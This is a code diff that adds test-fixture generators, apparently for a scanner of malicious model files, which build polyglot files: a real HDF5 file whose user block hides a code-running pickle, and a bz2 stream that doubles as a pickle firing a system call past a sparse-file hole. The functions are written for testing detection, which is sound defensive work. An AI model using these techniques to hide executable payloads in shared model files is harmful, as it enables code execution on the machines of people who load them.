@@ -238,3 +238,41 @@ def npy_bool_shape(marker: str) -> bytes:
     header = b"{'descr': '|O', 'fortran_order': False, 'shape': (True,), }"
     header += b" " * (64 - 10 - len(header) - 1) + b"\n"
     return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + evil_pickle(marker)
+
+
+def hdf5_h5py_userblock_polyglot(marker: str) -> bytes:
+    """A real HDF5 file (written by h5py, with one dataset) whose 512-byte user block holds a
+    pickle: h5py reads the dataset, pickle.load runs the pickle."""
+    import os
+    import tempfile
+
+    import h5py
+
+    evil = evil_pickle(marker)
+    with tempfile.TemporaryDirectory() as tmp:
+        path = os.path.join(tmp, "model.h5")
+        with h5py.File(path, "w", userblock_size=512) as f:
+            f.create_dataset("weights", data=np.arange(6, dtype=np.float32).reshape(2, 3))
+        with open(path, "r+b") as f:  # the user block is the application's: h5py leaves it
+            f.write(evil)
+        with open(path, "rb") as f:
+            return f.read()
+
+
+BZ2_BENIGN = b"benign weights"
+
+
+def bz2_pickle_polyglot(path: str, marker: str) -> None:
+    """Write a file that is a bz2 stream and, read from byte 0, a pickle that runs code.
+
+    ``BZh9`` and the block magic's first byte are BINBYTES and its length, 825,845,850 bytes:
+    the pickle's real opcodes sit after that many bytes. The gap is a hole in a sparse file,
+    so the file costs a few kilobytes of disk; bz2 readers stop at the first stream's end.
+    """
+    stream = bz2.compress(BZ2_BENIGN, 9)
+    (length,) = struct.unpack("<I", stream[1:5])
+    assert stream[:1] == b"B" and length == 825_845_850
+    with open(path, "wb") as f:
+        f.write(stream)
+        f.seek(5 + length)  # the hole: read back as zeros, part of the BINBYTES value
+        f.write(b"0" + system_call(marker) + b".")  # POP the bytes, then the call
